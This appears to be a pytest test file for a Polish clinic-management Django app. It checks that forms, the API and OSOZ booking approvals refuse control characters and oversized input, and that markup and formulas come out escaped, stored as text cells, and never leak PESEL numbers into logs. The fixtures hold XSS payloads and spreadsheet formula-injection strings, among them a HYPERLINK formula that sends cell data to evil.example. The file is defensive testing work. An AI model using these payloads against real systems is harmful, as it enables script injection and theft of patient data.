"""Hostile input through every channel text enters by — Pacjenci > Dodaj, the visit's notes, the API (a booking's
notes, a cancellation's reason) and an OSOZ booking approval with sealed personal data — and out through every
output. What is refused changes nothing and says why in Polish; what is accepted (markup and formulas are just text)
comes out safe: escaped in the pages, as text cells in the .xlsx export, verbatim in the audit, and no PESEL in the
log lines of those requests."""

import json
import logging
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook

from core.models import AuditEvent
from osoz_integration.models import OsozBooking
from osoz_integration.tests.osoz_bookings import (
    PESEL_JAN,
    booking_document,
    connected,
    keyed_clinic,
    next_weekday,
    signed_headers,
)
from patients.models import Patient
from scheduling.models import Appointment, AppointmentStatus
from scheduling.tests.factories import AppointmentFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&D2,"Pokaż wyniki")'
FORMULAS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", HYPERLINK]
MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
CONTROLS = ["Kowal\u0001ski", "\x1b[31mKowalski", "Kowal\u0085ska"]
HUGE = "Kowalski" * 12_501  # 100,008 characters

CONTROL_CHARACTERS = "Pole zawiera niedozwolone znaki sterujące."
NAME_TOO_LONG = "Upewnij się, że ta wartość ma co najwyżej 100 znaków (obecnie ma 100008)."
PATIENT_DATA_INVALID = "Podane dane pacjenta są nieprawidłowe ({}). Prosimy sprawdzić je i spróbować ponownie."
RAW_MARKUP = ("<script>alert", "<img src=x")

PATIENT_CREATE = reverse("patients:patient_create")
APPOINTMENTS = "/api/v1/appointments/"
APPROVAL = "/osoz/v1/booking-approval"


@pytest.fixture
def clinic():
    connected()
    return keyed_clinic()


@pytest.fixture
def logs(caplog):
    caplog.set_level(logging.DEBUG)
    return caplog


def patient_form(**fields) -> dict:
    return {"last_name": "Kowalski", "first_name": "Jan", "pesel": PESEL_JAN, "sex": "", "birth_date": "", **fields}


def book(client, clinic, patient, **fields):
    body = {"employee": clinic.doctor.pk, "patient": patient.pk, "starts_at": next_weekday(0, 9).isoformat()}
    return client.post(APPOINTMENTS, {**body, **fields}, content_type="application/json")


def approve(client, document):
    body = json.dumps(document).encode()
    return client.post(APPROVAL, data=body, content_type="application/json", **signed_headers(body))


def exported(client) -> list:
    """The cells of the first appointment row of the export of cancelled appointments."""
    response = client.get(reverse("scheduling:appointment_export"), {"tab": "odwolane"})
    assert response.status_code == 200
    _header, row = load_workbook(BytesIO(response.content)).active.iter_rows()
    return row


def assert_escaped(page: str, *texts: str) -> None:
    for text in texts:
        assert escape(text) in page
    assert not any(raw in page for raw in RAW_MARKUP)


def assert_no_pesel_logged(logs, pesel: str = PESEL_JAN) -> None:
    assert pesel not in logs.text and all(pesel not in str(record.args) for record in logs.records)


# --- Refused: nothing changes, the reason is said in Polish ---------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        *(("last_name", value, CONTROL_CHARACTERS) for value in CONTROLS),
        ("first_name", "Ja\x00n", "Znaki null są niedozwolone."),  # Django's own word, before the models'
        ("city", "Kra\u009bków", CONTROL_CHARACTERS),
        ("last_name", HUGE, NAME_TOO_LONG),
    ],
)
def test_the_patient_form_refuses_with_the_fields_error(client_for, bob, logs, field, value, message):
    response = client_for(bob).post(PATIENT_CREATE, patient_form(**{field: value}))

    assert response.status_code == 200 and message in response.context["form"].errors[field]
    assert escape(message) in response.text
    assert not Patient.objects.exists() and not AuditEvent.objects.filter(action="patient_created").exists()
    assert_no_pesel_logged(logs)


@pytest.mark.parametrize(("value", "message"), [*((value, CONTROL_CHARACTERS) for value in CONTROLS), (HUGE, "2000")])
def test_the_api_refuses_notes_and_reasons_with_400_and_changes_nothing(client_for, bob, clinic, logs, value, message):
    client = client_for(bob)
    patient = AppointmentFactory(schedule=clinic.private).patient
    refused = book(client, clinic, patient, notes=value)
    assert refused.status_code == 400 and message in refused.json()["error"]["fields"]["notes"][0]
    assert Appointment.objects.count() == 1

    appointment = Appointment.objects.get()
    refused = client.post(f"{APPOINTMENTS}{appointment.pk}/cancel/", {"reason": value}, content_type="application/json")
    assert refused.status_code == 400 and refused.json()["error"]["message"] == "Popraw błędy w przesłanych danych."
    expected = CONTROL_CHARACTERS if value != HUGE else "Upewnij się, że to pole ma nie więcej niż 300 znaków."
    assert refused.json()["error"]["fields"] == {"reason": [expected]}
    appointment.refresh_from_db()
    assert (appointment.status, appointment.cancel_reason) == (AppointmentStatus.BOOKED, "")
    assert_no_pesel_logged(logs, patient.pesel)


@pytest.mark.parametrize(("value", "message"), [*((value, CONTROL_CHARACTERS) for value in CONTROLS), (HUGE, "2000")])
def test_the_visit_notes_refuse_what_the_api_refuses(client_for, bob, clinic, value, message):
    appointment = AppointmentFactory(schedule=clinic.private, status=AppointmentStatus.IN_VISIT, notes="Kontrola.")
    response = client_for(bob).post(reverse("scheduling:visit", kwargs={"pk": appointment.pk}), {"notes": value})

    assert response.status_code == 200 and message in response.context["form"].errors["notes"][0]
    appointment.refresh_from_db()
    assert appointment.notes == "Kontrola."


@pytest.mark.parametrize(
    ("fields", "detail"),
    [
        *(({"last_name": value}, f"Nazwisko: {CONTROL_CHARACTERS[:-1]}") for value in CONTROLS),
        ({"first_name": "\tJan"}, f"Imię: {CONTROL_CHARACTERS[:-1]}"),
        ({"note": "Proszę\u0007 o telefon"}, f"Notatki związane z wizytą: {CONTROL_CHARACTERS[:-1]}"),
        ({"last_name": HUGE}, f"Nazwisko: {NAME_TOO_LONG[:-1]}"),
    ],
)
def test_an_osoz_booking_with_such_personal_data_or_note_is_rejected_with_a_reason(
    client, clinic, logs, fields, detail
):
    document = booking_document(clinic, starts_at=next_weekday(1, 9), **fields)

    response = approve(client, document)

    assert response.status_code == 200
    reason = PATIENT_DATA_INVALID.format(detail)
    assert response.json() == {"decision": "rejected", "reason": reason, "appointment_ref": None}
    assert not Patient.objects.exists() and not Appointment.objects.exists()
    assert OsozBooking.objects.get().reason == reason
    # The audit names the booking and the reason, never what was typed.
    audit = AuditEvent.objects.get(action="osoz_booking_rejected").message
    assert reason in audit and not any(str(value)[:8] in audit for value in fields.values())
    assert_no_pesel_logged(logs)


def test_an_osoz_note_longer_than_the_contract_allows_is_answered_400(client, clinic):
    response = approve(client, booking_document(clinic, starts_at=next_weekday(1, 9), note=HUGE))

    assert response.status_code == 400
    assert not Patient.objects.exists() and not Appointment.objects.exists() and not OsozBooking.objects.exists()


# --- Accepted: text, and safe wherever it goes out -------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS + MARKUP)
def test_the_reception_and_the_api_keep_markup_and_formulas_as_text(client_for, alice, bob, clinic, logs, value):
    client = client_for(bob)
    text = value.strip()  # as the form and the API trim it
    assert client.post(PATIENT_CREATE, patient_form(last_name=value)).status_code == 302
    patient = Patient.objects.get()
    assert patient.last_name == text
    created = book(client, clinic, patient, notes=value)
    assert created.status_code == 201 and created.json()["notes"] == text
    appointment = Appointment.objects.get()
    calendar = client.get(reverse("scheduling:calendar"), {"date": appointment.starts_at.date().isoformat()}).text
    cancel = client.post(f"{APPOINTMENTS}{appointment.pk}/cancel/", {"reason": value}, content_type="application/json")
    assert cancel.status_code == 200 and cancel.json()["cancel_reason"] == text

    assert_escaped(client.get(reverse("patients:patient_list")).text, f"{text} Jan")
    assert_escaped(calendar, f"{text} Jan")
    panel = client.get(reverse("scheduling:calendar_appointment", args=[appointment.pk])).text
    assert_escaped(panel, f"{text} Jan", text)
    cells = exported(client)
    assert (cells[2].value, cells[2].data_type) == (f"{text} Jan", "s")
    assert (cells[-1].value, cells[-1].data_type) == (text, "s")
    assert AuditEvent.objects.get(action="patient_created").object_repr == f"{text} Jan"
    assert_escaped(client_for(alice).get(reverse("core:audit_list")).text, f"{text} Jan")
    assert_no_pesel_logged(logs)


@pytest.mark.parametrize("value", [value for value in FORMULAS if not value.startswith("\t")] + MARKUP)
def test_an_osoz_booking_keeps_markup_and_formulas_as_text(client, client_for, bob, clinic, logs, value):
    document = booking_document(clinic, starts_at=next_weekday(1, 9), last_name=value, note=value)

    response = approve(client, document)

    assert response.json()["decision"] == "accepted"
    appointment = Appointment.objects.select_related("patient").get()
    assert (appointment.patient.last_name, appointment.notes) == (value, value)
    audit = AuditEvent.objects.get(action="osoz_booking_accepted").message
    assert audit.startswith(f"Przyjęto rezerwację z OSOZ: Jan {value}, ")
    staff = client_for(bob)
    panel = staff.get(reverse("scheduling:calendar_appointment", args=[appointment.pk])).text
    assert_escaped(panel, f"{value} Jan", value)
    staff.post(f"{APPOINTMENTS}{appointment.pk}/cancel/", {"reason": value}, content_type="application/json")
    cells = exported(staff)
    assert [(cell.value, cell.data_type) for cell in (cells[2], cells[-1])] == [(f"{value} Jan", "s"), (value, "s")]
    assert_no_pesel_logged(logs)
